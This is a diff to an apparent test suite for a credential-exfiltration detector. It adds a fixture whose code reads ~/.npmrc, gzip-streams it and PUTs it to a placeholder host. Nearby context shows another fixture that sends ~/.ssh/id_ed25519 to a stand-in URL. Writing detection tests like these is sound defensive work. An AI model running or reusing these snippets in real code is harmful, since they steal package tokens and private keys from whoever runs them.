@@ -27,6 +27,14 @@ examine(sendsCredentials, {
       weight: 'proof',
     },
     {
+      when: 'a stream of the web hands out what its source reads, packed on its way',
+      files: {
+        'index.js': `const { readFile } = require('fs').promises; const { homedir } = require('os'); const { join } = require('path'); const streamOf = paths => { const queue = [...paths]; return new ReadableStream({ async pull(controller) { const next = queue.shift(); if (next === undefined) return controller.close(); controller.enqueue(JSON.stringify({ text: await readFile(next, 'utf8').catch(() => '') })); } }); };
+          const body = streamOf([join(homedir(), '.npmrc')]).pipeThrough(new TextEncoderStream()).pipeThrough(new CompressionStream('gzip')); fetch(new URL('https://cache.invalid/v2'), { method: 'PUT', body, duplex: 'half' });`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'a queue tells what its tasks have given',
       files: {
         'index.js': `const PQueue = require('p-queue'); const { readFileSync } = require('fs'); const { homedir } = require('os'); const queue = new PQueue({ concurrency: 2 }); queue.on('completed', result => { if (result.report) fetch('https://q.invalid/done', { method: 'POST', body: JSON.stringify(result.report) }); }); queue.add(async () => ({ report: { text: readFileSync(homedir() + '/.ssh/id_ed25519', 'utf8') } }));`,
